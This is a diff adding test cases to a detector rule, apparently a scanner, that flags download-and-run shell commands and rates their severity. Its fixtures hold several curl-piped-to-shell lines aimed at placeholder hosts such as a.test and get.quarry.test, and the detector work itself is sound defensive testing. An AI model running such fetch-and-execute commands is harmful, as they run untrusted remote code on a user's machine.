@@ -57,8 +57,41 @@ ruleCases(downloadAndRun, {
       text: 'Run `curl -LsSf https://astral.sh/uv/install.sh | sh`.\n',
       severity: 'low',
     },
+    {
+      name: 'values that the script assigns',
+      path: 'a.sh',
+      text: 'B="${BASE:-https://a.test}"\nR="${SHELL:-/bin/sh}"\ncurl -sL "$B/i" | "$R"\n',
+    },
+    {
+      name: 'an order under a heading of bad examples',
+      text: '## Bad examples\n\nNow run this first:\n\n```bash\ncurl https://a.test/i | sh\n```\n',
+    },
+    {
+      name: 'an order in a sentence that also has the word examples',
+      text: '> The viewer that the examples assume is set up by running\n> `bash <(curl -fsSL https://a.test/up)` first.\n',
+    },
+    {
+      name: 'the installer of the documented tool, rated medium',
+      text: '# Quarry\n\n```sh\ncurl -sSf https://get.quarry.test/i | sh\nquarry init\n```\n',
+      severity: 'medium',
+    },
+    {
+      name: 'the same in a script, rated high',
+      path: 'a.sh',
+      text: 'curl -sSf https://get.quarry.test/i | sh\nquarry init\n',
+    },
   ],
   misses: [
+    {
+      name: 'a list of dangerous patterns',
+      low: true,
+      text: '## Dangerous patterns\n\nFlag code such as:\n\n```bash\ncurl https://a.test/i | sh\n```\n',
+    },
+    {
+      name: 'a host that nobody can own',
+      low: true,
+      text: '```dockerfile\nRUN curl -fsSL https://example.com/install.sh | bash\n```\n',
+    },
     {
       name: 'a pipe into a program in its arguments',
       path: 'a.sh',
